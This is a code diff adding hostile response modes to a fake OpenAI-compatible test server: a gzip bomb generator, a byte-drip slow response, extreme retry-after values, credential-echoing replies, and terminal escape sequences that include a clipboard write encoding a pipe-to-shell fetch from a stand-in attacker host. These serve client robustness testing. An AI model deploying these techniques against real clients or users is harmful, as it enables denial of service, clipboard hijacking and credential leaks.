@@ -19,7 +19,12 @@ and ``"role"``), ``{"status": 500}``, ``{"status": 429, "headers": {"retry-after
 ``{"hang": true}``, ``{"delay": 0.5}`` (optionally with ``"then": {...}``), ``{"raw": "{not
 json"}``, ``{"drop": true}``, ``{"reset": true}``, ``{"truncated": "partial body"}``,
 ``{"empty_choices": true}``, ``{"content_filter": "partial text"}``, ``{"context_length":
-true}``.
+true}``, and the hostile ones: ``{"retry_after": "inf"}`` (a 429 with that header),
+``{"drip": 0.5, "where": "headers"}`` (the response one byte every 0.5 s; ``"body"``: a chunked
+body), ``{"gzip_bomb": 1073741824}`` (a gzip body that inflates to that many bytes),
+``{"content": [{"type": "text", "text": "..."}]}`` (any JSON as ``message.content``),
+``{"escapes": 500}`` (an error body full of terminal escapes) and ``{"echo_headers": true}``
+(a reply that repeats every request header, ``Authorization`` included).
 
 ``max_context_tokens`` (``--max-context-tokens``) makes the fake behave like a model with a
 context window: a request whose messages hold more than that many estimated tokens (UTF-8 bytes
@@ -30,12 +35,14 @@ error body OpenAI sends (``code: context_length_exceeded``), before any scripted
 from __future__ import annotations
 
 import argparse
+import functools
 import json
 import socket
 import struct
 import sys
 import threading
 import time
+import zlib
 from collections import deque
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -44,20 +51,28 @@ from typing import Any, Self
 
 __all__ = [
     "DEFAULT_SUMMARY",
+    "ESCAPES",
     "FakeOpenAI",
     "RecordedRequest",
     "Step",
     "content_filter",
     "context_length_error",
     "delay",
+    "drip",
     "drop",
+    "echo_headers",
     "empty_choices",
+    "escape_error",
     "estimate_tokens",
+    "gzip_bomb",
+    "gzip_bomb_body",
     "hang",
     "main",
     "raw",
     "reply",
+    "reply_content",
     "reset_connection",
+    "retry_after",
     "status",
     "step_from_dict",
     "truncated",
@@ -108,6 +123,12 @@ class Step:
     body: bytes | None = None
     seconds: float = 0.0
     then: Step | None = None
+    content: Any = None
+    """``reply_content``: the JSON value sent as ``message.content`` instead of ``text``."""
+    where: str = ""
+    """``drip``: ``headers`` (the whole response byte by byte) or ``body`` (a chunked body)."""
+    size: int = 0
+    """``gzip_bomb``: the number of bytes the body inflates to."""
 
 
 def reply(
@@ -217,6 +238,81 @@ def empty_choices() -> Step:
     return Step("empty_choices")
 
 
+# -- hostile servers -------------------------------------------------------------------------
+
+ESCAPES = (
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
+    "\x1b]0;pwned\x07"  # OSC 0: set the window title
+    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
+    "\x1b[2J\x1b[H"  # clear the screen, cursor home
+    "\x9b31m"  # a C1 CSI (8-bit) sequence
+    "\u202e"  # right-to-left override
+)
+"""Terminal escapes a hostile server may put in a body (clipboard, title, link, clear screen)."""
+
+
+def retry_after(value: str, code: int = 429) -> Step:
+    """A ``code`` answer whose ``retry-after`` header is ``value`` (``"1000000000"``, ``"inf"``,
+    ``"Fri, 31 Dec 9999 23:59:59 GMT"``, ...)."""
+    return status(code, headers={"retry-after": value})
+
+
+def drip(interval: float, where: str = "headers", then_step: Step | None = None) -> Step:
+    """Send the answer (``then_step``, default: the default reply) one byte every ``interval``
+    seconds: ``where="headers"`` drips the whole response from its status line on,
+    ``where="body"`` sends the headers at once and drips a chunked body. Each byte arrives well
+    within any per-read timeout; only a deadline on the whole request stops it."""
+    if where not in ("headers", "body"):
+        raise ValueError(f"drip where must be 'headers' or 'body', got {where!r}")
+    return Step("drip", seconds=interval, where=where, then=then_step)
+
+
+@functools.lru_cache(maxsize=4)
+def gzip_bomb_body(size: int) -> bytes:
+    """A valid gzip stream of ``size`` zero bytes, about ``size / 1000`` bytes long.
+
+    Built without compressing ``size`` bytes: after a full flush deflate starts afresh, so every
+    MiB of zeros compresses to the same block, which is repeated; the trailer's CRC-32 is
+    computed over the zeros (about 0.25 s per GiB, once per size)."""
+    mib = 1 << 20
+    zeros = bytes(mib)
+    comp = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
+    whole, rest = divmod(size, mib)
+    crc = 0
+    for _ in range(whole):
+        crc = zlib.crc32(zeros, crc)
+    crc = zlib.crc32(bytes(rest), crc)
+    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
+    tail = comp.compress(bytes(rest)) + comp.flush()
+    trailer = struct.pack("<II", crc, size & 0xFFFFFFFF)
+    return header + block * whole + tail + trailer
+
+
+def gzip_bomb(size: int = 1 << 30, code: int = 200) -> Step:
+    """A ``code`` answer with ``content-encoding: gzip`` whose body (about ``size / 1000``
+    bytes) inflates to ``size`` zero bytes (default 1 GiB from about 1 MB)."""
+    return Step("gzip_bomb", code=code, size=size)
+
+
+def reply_content(content: Any, finish_reason: str = "stop") -> Step:
+    """A 200 chat completion whose ``message.content`` is ``content`` as given: a list of parts
+    (``[{"type": "text", "text": "..."}]``, as several servers send), a dict, a number, ..."""
+    return Step("reply", content=content, finish_reason=finish_reason)
+
+
+def escape_error(code: int = 500) -> Step:
+    """An error answer whose message is full of terminal escapes (:data:`ESCAPES`)."""
+    message = f"upstream failed {ESCAPES} see logs"
+    return status(code, body={"error": {"message": message, "type": "fake", "code": None}})
+
+
+def echo_headers() -> Step:
+    """A 200 chat completion whose content repeats every request header, ``Authorization``
+    and any ``api-key`` included, as a summary: what a hostile or careless server may do."""
+    return Step("echo_headers")
+
+
 def step_from_dict(d: dict[str, Any]) -> Step:
     """One step of a ``--script`` JSON file."""
     if "reply" in d:
@@ -249,6 +345,23 @@ def step_from_dict(d: dict[str, Any]) -> Step:
         return content_filter(value if isinstance(value, str) else "")
     if d.get("context_length"):
         return context_length_error()
+    if "retry_after" in d:
+        return retry_after(str(d["retry_after"]), int(d.get("code", 429)))
+    if "drip" in d:
+        then = d.get("then")
+        return drip(
+            float(d["drip"]),
+            str(d.get("where", "headers")),
+            step_from_dict(then) if isinstance(then, dict) else None,
+        )
+    if "gzip_bomb" in d:
+        return gzip_bomb(int(d["gzip_bomb"]), int(d.get("code", 200)))
+    if "content" in d:
+        return reply_content(d["content"], str(d.get("finish_reason", "stop")))
+    if "escapes" in d:
+        return escape_error(int(d["escapes"]))
+    if d.get("echo_headers"):
+        return echo_headers()
     raise ValueError(f"unknown fake step: {d!r}")
 
 
@@ -278,6 +391,12 @@ class _Server(ThreadingHTTPServer):
         self.resets: set[socket.socket] = set()
         """Connections a ``reset`` step aborts: closed without the FIN of a normal shutdown."""
 
+    def handle_error(self, request: Any, client_address: Any) -> None:
+        """A client that hangs up (a deadline, a refused body) is normal here: no traceback."""
+        if isinstance(sys.exc_info()[1], ConnectionError):
+            return
+        super().handle_error(request, client_address)
+
     def shutdown_request(self, request: Any) -> None:
         if request in self.resets:
             self.resets.discard(request)
@@ -294,6 +413,8 @@ class _Handler(BaseHTTPRequestHandler):
     # Headers and body go out in two writes; with Nagle's algorithm on, the body would wait for
     # the client's delayed ACK (40 ms) on a kept-alive connection.
     disable_nagle_algorithm = True
+    _all_headers: dict[str, str]
+    """Every header of the request being answered (for ``echo_headers``)."""
 
     def log_message(self, format: str, *args: Any) -> None:
         return
@@ -322,6 +443,7 @@ class _Handler(BaseHTTPRequestHandler):
         auth = self.headers.get("authorization")
         scheme = auth.split(" ", 1)[0] if auth else None
         fake._record(RecordedRequest("POST", self.path, headers, body, peer, scheme))
+        self._all_headers = {k.lower(): v for k, v in self.headers.items()}
         if self.path.split("?", 1)[0] not in _PATHS:
             self._send_json(404, {"error": {"message": f"no route {self.path!r}", "type": "fake"}})
             return
@@ -371,6 +493,14 @@ class _Handler(BaseHTTPRequestHandler):
             self._send_bytes(step.code, step.body or b"", step.headers)
         elif step.kind == "empty_choices":
             self._send_json(200, _completion(body, [], None))
+        elif step.kind == "drip":
+            self._drip(step, body, release)
+        elif step.kind == "gzip_bomb":
+            data = gzip_bomb_body(step.size)
+            self._send_bytes(step.code, data, {"content-encoding": "gzip"})
+        elif step.kind == "echo_headers":
+            text = "<summary>\nrequest headers: " + json.dumps(self._all_headers) + "\n</summary>"
+            self._run(reply(text), body, release)
         else:
             prompt = len(json.dumps(body)) // 4 if body is not None else 0
             usage = step.usage or {
@@ -378,12 +508,53 @@ class _Handler(BaseHTTPRequestHandler):
                 "completion_tokens": len(step.text or "") // 4,
                 "total_tokens": prompt + len(step.text or "") // 4,
             }
+            content = step.content if step.content is not None else step.text
             choice = {
                 "index": 0,
-                "message": {"role": step.role, "content": step.text},
+                "message": {"role": step.role, "content": content},
                 "finish_reason": step.finish_reason,
             }
             self._send_json(200, _completion(body, [choice], usage))
+
+    def _response_bytes(self, step: Step, body: Any) -> tuple[bytes, bytes]:
+        """(status line + headers, body) of ``step`` as this handler would send them."""
+        import io
+
+        real_wfile = self.wfile
+        buffer = io.BytesIO()
+        self.wfile = buffer
+        try:
+            self._run(step, body, threading.Event())
+        finally:
+            self.wfile = real_wfile
+        head, _, payload = buffer.getvalue().partition(b"\r\n\r\n")
+        return head + b"\r\n\r\n", payload
+
+    def _drip(self, step: Step, body: Any, release: threading.Event) -> None:
+        """Send ``step.then`` one byte every ``step.seconds`` (see :func:`drip`)."""
+        head, payload = self._response_bytes(step.then or self.server.fake.default, body)
+        self.close_connection = True
+        if step.where == "body":
+            lines = [line for line in head.split(b"\r\n") if line]
+            kept = [line for line in lines if not line.lower().startswith(b"content-length:")]
+            chunked = b"\r\n".join([*kept, b"transfer-encoding: chunked"]) + b"\r\n\r\n"
+            self._write(chunked)
+            pieces = [b"1\r\n" + payload[i : i + 1] + b"\r\n" for i in range(len(payload))]
+            pieces.append(b"0\r\n\r\n")
+        else:
+            data = head + payload
+            pieces = [data[i : i + 1] for i in range(len(data))]
+        for piece in pieces:
+            if release.wait(step.seconds) or not self._write(piece):
+                return  # stopped or reset, or the client gave up
+
+    def _write(self, data: bytes) -> bool:
+        try:
+            self.wfile.write(data)
+            self.wfile.flush()
+        except OSError:
+            return False
+        return True
 
     def _send_json(self, code: int, payload: Any) -> None:
         self._send_bytes(code, json.dumps(payload).encode(), {})
